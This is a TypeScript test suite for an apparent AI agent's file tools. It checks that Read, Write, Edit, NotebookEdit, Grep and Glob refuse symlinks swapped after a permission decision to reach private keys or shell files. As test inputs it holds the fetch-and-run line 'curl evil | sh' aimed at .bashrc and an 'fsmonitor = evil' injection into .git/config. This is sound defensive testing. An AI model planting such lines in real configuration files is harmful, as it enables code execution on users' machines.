import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { editTool } from './builtin/edit.js'
import { createGlobTool } from './builtin/glob.js'
import { createGrepTool } from './builtin/grep.js'
import { multiEditTool } from './builtin/multi-edit.js'
import { notebookEditTool } from './builtin/notebook-edit.js'
import { readTool } from './builtin/read.js'
import { writeTool } from './builtin/write.js'
import { realPathOnDisk, writeChecked } from './real-path.js'
import { callTool, makeTestCtx, resultText, type TestCtx } from './testing.js'
import type { ToolResult } from './tool-result.js'

// Issue 12 finding 9 with real symlinks: the repository ships links, or a link is swapped between
// the permission decision and the tool's open (TOCTOU). The decision's real paths are taken the way
// the engine's gate takes them (realPathOnDisk at decision time).

let ctx: TestCtx
let root: string
let outside: string

beforeEach(() => {
  ctx = makeTestCtx()
  root = ctx.projectRoot
  outside = realpathSync(mkdtempSync(join(tmpdir(), 'ze-outside-')))
  writeFileSync(join(outside, 'id_rsa'), 'PRIVATE KEY\n')
  writeFileSync(join(outside, '.bashrc'), 'export PATH=/usr/bin\n')
  writeFileSync(join(root, 'a.txt'), 'inside\n')
})
afterEach(() => {
  ctx.cleanup()
  rmSync(outside, { recursive: true, force: true })
})

/** What the gate hands the tool: each decided path's real path at decision time. */
function decided(...paths: string[]): void {
  ctx.decidedRealPaths = Object.fromEntries(paths.map((path) => [path, realPathOnDisk(path) as string]))
}

function errorCode(result: ToolResult): string | undefined {
  return result.ok ? undefined : result.error.code
}

describe('realPathOnDisk', () => {
  it('resolves links, dangling links to their target, and missing paths through their ancestors', () => {
    symlinkSync(outside, join(root, 'lnk'))
    symlinkSync(join(outside, 'new-file'), join(root, 'dangling'))
    symlinkSync('loop', join(root, 'loop'))
    expect(realPathOnDisk(join(root, 'lnk', 'id_rsa'))).toBe(join(outside, 'id_rsa'))
    expect(realPathOnDisk(join(root, 'lnk', 'missing', 'x'))).toBe(join(outside, 'missing', 'x'))
    expect(realPathOnDisk(join(root, 'dangling'))).toBe(join(outside, 'new-file'))
    expect(realPathOnDisk(join(root, 'a.txt'))).toBe(join(root, 'a.txt'))
    expect(realPathOnDisk(join(root, 'loop'))).toBeUndefined()
  })
})

describe('file tools re-check the real path at open time', () => {
  it('Read opens the file the decision saw, and refuses a link swapped after the decision', async () => {
    const path = join(root, 'notes.txt')
    writeFileSync(path, 'harmless\n')
    decided(path)
    expect(resultText(await callTool(readTool, { file_path: path }, ctx))).toContain('harmless')
    rmSync(path)
    symlinkSync(join(outside, 'id_rsa'), path)
    const result = await callTool(readTool, { file_path: path }, ctx)
    expect(errorCode(result)).toBe('path_changed')
    expect(resultText(result)).not.toContain('PRIVATE KEY')
  })

  it('Read through a shipped link reads only when the decision covered the real path', async () => {
    symlinkSync(outside, join(root, 'lnk'))
    const path = join(root, 'lnk', 'id_rsa')
    decided(path)
    // The gate decided on ~/id_rsa (an approved read outside): the tool reads that very file.
    expect(resultText(await callTool(readTool, { file_path: path }, ctx))).toContain('PRIVATE KEY')
    // A decision without this path never opens it.
    ctx.decidedRealPaths = {}
    expect(errorCode(await callTool(readTool, { file_path: path }, ctx))).toBe('path_changed')
  })

  it('Write refuses a path that became a link to outside after the decision (nothing written)', async () => {
    const path = join(root, 'rc')
    decided(path)
    symlinkSync(join(outside, '.bashrc'), path)
    const result = await callTool(writeTool, { file_path: path, content: 'curl evil | sh\n' }, ctx)
    expect(errorCode(result)).toBe('path_changed')
    expect(readFileSync(join(outside, '.bashrc'), 'utf8')).toBe('export PATH=/usr/bin\n')
  })

  it('Write through a dangling link creates nothing outside when the decision saw another target', async () => {
    const path = join(root, 'new.txt')
    decided(path)
    symlinkSync(join(outside, 'planted'), path)
    expect(errorCode(await callTool(writeTool, { file_path: path, content: 'x' }, ctx))).toBe('path_changed')
    expect(existsSync(join(outside, 'planted'))).toBe(false)
  })

  it('Write creates and overwrites inside the project as before', async () => {
    const path = join(root, 'sub', 'new.txt')
    decided(path)
    expect(errorCode(await callTool(writeTool, { file_path: path, content: 'one\n' }, ctx))).toBeUndefined()
    expect(readFileSync(path, 'utf8')).toBe('one\n')
  })

  it('Edit and MultiEdit refuse a .git link planted after the decision (g -> .git)', async () => {
    mkdirSync(join(root, '.git', 'hooks'), { recursive: true })
    writeFileSync(join(root, '.git', 'config'), '[core]\n')
    mkdirSync(join(root, 'g'))
    writeFileSync(join(root, 'g', 'config'), '[core]\n')
    const path = join(root, 'g', 'config')
    await callTool(readTool, { file_path: path }, ctx)
    decided(path)
    rmSync(join(root, 'g'), { recursive: true })
    symlinkSync('.git', join(root, 'g'))
    const edit = await callTool(
      editTool,
      { file_path: path, old_string: '[core]', new_string: '[core]\n\tfsmonitor = evil' },
      ctx,
    )
    expect(errorCode(edit)).toBe('path_changed')
    const multi = await callTool(
      multiEditTool,
      { file_path: path, edits: [{ old_string: '[core]', new_string: '[core]\n\tfsmonitor = evil' }] },
      ctx,
    )
    expect(errorCode(multi)).toBe('path_changed')
    expect(readFileSync(join(root, '.git', 'config'), 'utf8')).toBe('[core]\n')
  })

  it('Edit goes ahead when nothing changed since the decision', async () => {
    const path = join(root, 'a.txt')
    await callTool(readTool, { file_path: path }, ctx)
    decided(path)
    const result = await callTool(
      editTool,
      { file_path: path, old_string: 'inside', new_string: 'changed' },
      ctx,
    )
    expect(errorCode(result)).toBeUndefined()
    expect(readFileSync(path, 'utf8')).toBe('changed\n')
  })

  it('NotebookEdit refuses a notebook swapped for a link', async () => {
    const notebook = JSON.stringify({
      cells: [{ id: 'c1', cell_type: 'code', source: 'x', metadata: {}, outputs: [], execution_count: null }],
      metadata: {},
      nbformat: 4,
      nbformat_minor: 5,
    })
    const path = join(root, 'n.ipynb')
    writeFileSync(path, notebook)
    writeFileSync(join(outside, 'n.ipynb'), notebook)
    await callTool(readTool, { file_path: path }, ctx)
    decided(path)
    rmSync(path)
    symlinkSync(join(outside, 'n.ipynb'), path)
    const result = await callTool(
      notebookEditTool,
      { notebook_path: path, cell_id: 'c1', new_source: 'evil' },
      ctx,
    )
    expect(errorCode(result)).toBe('path_changed')
    expect(readFileSync(join(outside, 'n.ipynb'), 'utf8')).toBe(notebook)
  })

  it('writeChecked refuses when the folder on the way is a link (a swap after the check) and removes what it created', async () => {
    symlinkSync(outside, join(root, 'swapped'))
    // The checked real path claims to be inside the project; the kernel follows the link.
    await expect(writeChecked(join(root, 'swapped', 'planted'), Buffer.from('x'))).rejects.toThrow(/changed/)
    expect(existsSync(join(outside, 'planted'))).toBe(false)
  })
})

describe.each(['builtin', 'auto'] as const)(
  'Grep and Glob do not follow links out of the project (%s engine)',
  (engine) => {
    const grep = createGrepTool(engine)
    const glob = createGlobTool(engine)

    beforeEach(() => {
      symlinkSync(outside, join(root, 'lnk'))
      symlinkSync(join(outside, 'id_rsa'), join(root, 'key-link'))
    })

    it('Grep over the project never reads through a link', async () => {
      decided(root)
      const text = resultText(await callTool(grep, { pattern: 'PRIVATE', output_mode: 'content' }, ctx))
      expect(text).not.toContain('PRIVATE KEY')
    })

    it('Glob over the project lists no file behind a link', async () => {
      decided(root)
      const text = resultText(await callTool(glob, { pattern: '**/*' }, ctx))
      expect(text).toContain('a.txt')
      expect(text).not.toContain('id_rsa')
    })

    it('Glob with a pattern through a link is refused (the decision saw only the project)', async () => {
      decided(root)
      const result = await callTool(glob, { pattern: 'lnk/*' }, ctx)
      expect(errorCode(result)).toBe('path_changed')
      expect(resultText(result)).not.toContain('id_rsa')
    })

    it('Grep of a folder swapped for a link after the decision is refused', async () => {
      const dir = join(root, 'docs')
      mkdirSync(dir)
      decided(dir)
      rmSync(dir, { recursive: true })
      symlinkSync(outside, dir)
      const result = await callTool(grep, { pattern: 'PRIVATE', path: dir, output_mode: 'content' }, ctx)
      expect(errorCode(result)).toBe('path_changed')
      expect(resultText(result)).not.toContain('PRIVATE KEY')
    })
  },
)
